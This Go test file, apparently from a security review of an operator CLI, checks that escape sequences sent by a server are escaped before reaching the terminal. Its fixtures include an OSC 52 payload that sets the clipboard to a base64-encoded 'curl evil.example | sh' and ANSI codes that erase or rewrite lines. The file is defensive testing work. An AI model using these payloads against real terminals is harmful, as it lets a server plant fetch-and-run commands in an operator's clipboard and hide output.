package main

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// The tests of this file come from the outside review of the operators'
// tools (2026-12-05): each comment tells what the reviewer found, and the
// test guards the fix.

// TestReviewCLIPrintsServerControlCharacters: the CLI prints what the
// server sends (error reasons, or the start of a non-JSON body; route
// patterns; doctor findings) to the terminal as it is. Whatever answers
// --addr (a wrong address, the target of a redirect the CLI follows, a
// compromised service) can write terminal escape sequences: OSC 52 sets
// the operator's clipboard, others retitle the window, hide or rewrite
// lines (e.g. a fake "no problem found"). Text from the server should
// have its control characters escaped (strconv.Quote-style, or
// replaced) before it reaches a terminal.
func TestReviewCLIPrintsServerControlCharacters(t *testing.T) {
	const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" // clipboard := "curl evil.example | sh"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case strings.HasSuffix(r.URL.Path, "/stats"):
			w.Write([]byte(`{"total": {}, "routes": {"GET /x\u001b[2K\u001b[1A": {}}}`))
		case strings.HasSuffix(r.URL.Path, "/doctor"):
			w.Write([]byte(`{"store": "redis", "findings": [{"check": "version", "level": "ok", "message": "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007"}]}`))
		default:
			w.WriteHeader(http.StatusBadGateway)
			w.Write([]byte(osc52))
		}
	}))
	defer srv.Close()
	for _, args := range [][]string{{"stats"}, {"doctor"}, {"purge", "--tag", "x"}} {
		var stdout, stderr bytes.Buffer
		argv := append([]string{"--addr", srv.URL + "/admin/", "--token", "0123456789abcdef-review"}, args...)
		run(context.Background(), argv, strings.NewReader(""), &stdout, &stderr, func(string) string { return "" })
		if out := stdout.String() + stderr.String(); strings.ContainsRune(out, 0x1b) {
			t.Errorf("readthrough %s wrote an escape sequence from the server to the terminal: %q", strings.Join(args, " "), out)
		}
	}
}
